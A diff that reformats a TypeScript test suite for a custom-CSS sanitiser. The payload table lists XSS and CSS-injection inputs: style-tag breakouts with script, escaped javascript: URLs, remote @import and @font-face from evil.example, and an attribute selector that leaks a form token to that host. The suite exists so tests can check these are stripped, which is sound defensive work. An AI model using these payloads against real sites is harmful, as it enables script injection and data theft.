@@ -11,7 +11,12 @@ describe('sanitiseCustomCss', () => {
     // [name, input, text that must not survive, text of `removed` that explains it]
     const payloads: [string, string, RegExp, RegExp][] = [
       ['closing the style element', '</style><script>alert(1)</script>', /script|alert/i, /unreadable CSS/],
-      ['closing the style element after a good rule', 'a{color:red} } </style><script>alert(1)</script> {', /script|alert/i, /selector cannot be read/],
+      [
+        'closing the style element after a good rule',
+        'a{color:red} } </style><script>alert(1)</script> {',
+        /script|alert/i,
+        /selector cannot be read/,
+      ],
       ['</style> inside a comment', 'a{color:red}/*</style><script>alert(1)</script>*/', /script|alert/i, /^$|comment/],
       ['</style> inside a kept /*! comment', '/*! </style><script>alert(1)</script> */ a{color:red}', /script|alert/i, /comment/],
       ['HTML comment markers', '<!-- a{color:red} -->', /!--|-->/, /HTML comment marker/],
@@ -20,10 +25,20 @@ describe('sanitiseCustomCss', () => {
       ['@import written with an escape', '@\\69mport url(https://evil.example/x.css);', /mport|evil/i, /@import/],
       ['@charset', '@charset "utf-7"; a{color:red}', /charset|utf-7/i, /@charset/],
       ['@namespace', '@namespace svg url(http://www.w3.org/2000/svg);', /namespace/i, /@namespace/],
-      ['@font-face with a remote font', '@font-face{font-family:x;src:url(https://evil.example/f.woff)}', /font-face|evil/i, /@font-face .*fonts/],
+      [
+        '@font-face with a remote font',
+        '@font-face{font-family:x;src:url(https://evil.example/f.woff)}',
+        /font-face|evil/i,
+        /@font-face .*fonts/,
+      ],
       ['@-moz-document', '@-moz-document url-prefix(){a{color:red}}', /document/i, /@-moz-document/],
       ['javascript: url', 'a{background:url(javascript:alert(1))}', /javascript|alert/i, /background/],
-      ['quoted javascript: url', 'a{background:url("javascript:alert(1)")}', /javascript|alert/i, /url "javascript:alert\(1\)" is not allowed/],
+      [
+        'quoted javascript: url',
+        'a{background:url("javascript:alert(1)")}',
+        /javascript|alert/i,
+        /url "javascript:alert\(1\)" is not allowed/,
+      ],
       ['javascript: url written with escapes', 'a{background:url("java\\73 cript:alert(1)")}', /javascript|alert/i, /is not allowed/],
       ['javascript: url with a tab inside', 'a{background:url("java\\9script:alert(1)")}', /script|alert/i, /is not allowed/],
       ['u\\rl( with an escape in the function name', 'a{background:u\\rl(javascript:alert(1))}', /javascript|alert/i, /background/],
@@ -32,7 +47,12 @@ describe('sanitiseCustomCss', () => {
       ['protocol-relative url', 'a{background:url(//evil.example/x.png)}', /evil/, /is not allowed/],
       ['http: url', 'a{background:url(http://evil.example/x.png)}', /evil/, /is not allowed/],
       ['relative url', 'a{background:url(x.png)}', /x\.png/, /is not allowed/],
-      ['url hidden in image-set', 'a{background:image-set("javascript:alert(1)" 1x)}', /javascript|alert/i, /in image-set\(\) is not allowed/],
+      [
+        'url hidden in image-set',
+        'a{background:image-set("javascript:alert(1)" 1x)}',
+        /javascript|alert/i,
+        /in image-set\(\) is not allowed/,
+      ],
       ['url hidden in -webkit-image-set', 'a{background:-webkit-image-set("http://evil.example/a.png" 1x)}', /evil/, /is not allowed/],
       ['url hidden in src()', 'a{background:src("javascript:alert(1)")}', /javascript/i, /in src\(\) is not allowed/],
       ['url in a custom property', 'a{--x:url(javascript:alert(1))}', /javascript/i, /--x/],
@@ -45,7 +65,12 @@ describe('sanitiseCustomCss', () => {
       ['-moz-binding', 'a{-moz-binding:url(https://evil.example/x.xml#xss)}', /binding/i, /"-moz-binding"/],
       ['string hiding </style>', 'a::after{content:"</style><script>alert(1)</script>"}', /<\/style|<script/i, /^$/],
       ['escaped </style> as identifiers', 'a{color:\\3c /style\\3e}', /<\/style/i, /^$/],
-      ['attribute selector reading the form token', 'input[value^="a"]+button{background:url(https://evil.example/a)}', /evil/, /compares attribute values/],
+      [
+        'attribute selector reading the form token',
+        'input[value^="a"]+button{background:url(https://evil.example/a)}',
+        /evil/,
+        /compares attribute values/,
+      ],
       ['attribute selector reading the landing link', 'form[action*="/m/"] button{color:red}', /action/, /compares attribute values/],
       ['unterminated string running into the next line', 'a{content:"unterminated\n;color:red}', /unterminated/, /content/],
       ['declaration outside a rule', 'color:red', /color/, /unreadable CSS/],
@@ -63,8 +88,16 @@ describe('sanitiseCustomCss', () => {
   describe('keeps good CSS', () => {
     const good: [string, string, string[]][] = [
       ['a simple rule', 'h1{color:#0f766e}', ['h1{color:#0f766e}']],
-      ['several rules and selectors', '.lp-title, h2 > span { font-size: 2rem } .lp-button:hover{opacity:.9}', ['.lp-title,h2>span{font-size:2rem}', '.lp-button:hover{opacity:.9}']],
-      ['an https background image', 'body{background:url(https://cdn.example.com/bg.png) no-repeat}', ['url(https://cdn.example.com/bg.png)']],
+      [
+        'several rules and selectors',
+        '.lp-title, h2 > span { font-size: 2rem } .lp-button:hover{opacity:.9}',
+        ['.lp-title,h2>span{font-size:2rem}', '.lp-button:hover{opacity:.9}'],
+      ],
+      [
+        'an https background image',
+        'body{background:url(https://cdn.example.com/bg.png) no-repeat}',
+        ['url(https://cdn.example.com/bg.png)'],
+      ],
       ['a data:image url', 'body{background-image:url("data:image/png;base64,iVBORw0KGgo=")}', ['data:image/png;base64,iVBORw0KGgo=']],
       ['a custom property', ':root{--brand:#123456}.lp-button{background:var(--brand)}', ['--brand:#123456', 'var(--brand)']],
       ['@media', '@media (min-width: 40rem){.lp-page{padding:2rem}}', ['@media (min-width:40rem){.lp-page{padding:2rem}}']],
@@ -124,7 +157,7 @@ describe('sanitiseCustomCss', () => {
   });
 
   it('percent-encodes < and > in an allowed SVG data url', () => {
-    const { css } = sanitiseCustomCss("a{background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'></svg>\")}");
+    const { css } = sanitiseCustomCss('a{background:url("data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'></svg>")}');
     expectSafe(css);
     expect(css).toContain('data:image/svg+xml,%3Csvg');
   });
@@ -152,7 +185,27 @@ describe('sanitiseCustomCss', () => {
   });
 
   it('never lets < through, whatever the mix', () => {
-    const pieces = ['</style>', '<', '<!--', '"<"', "'<'", '\\3c', 'url(<)', '/*<*/', '@media (a<b){}', 'a{', '}', ';', ':', '"', "'", '(', ')', 'x', '\n'];
+    const pieces = [
+      '</style>',
+      '<',
+      '<!--',
+      '"<"',
+      "'<'",
+      '\\3c',
+      'url(<)',
+      '/*<*/',
+      '@media (a<b){}',
+      'a{',
+      '}',
+      ';',
+      ':',
+      '"',
+      "'",
+      '(',
+      ')',
+      'x',
+      '\n',
+    ];
     let seed = 7;
     const next = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31);
     for (let round = 0; round < 300; round += 1) {
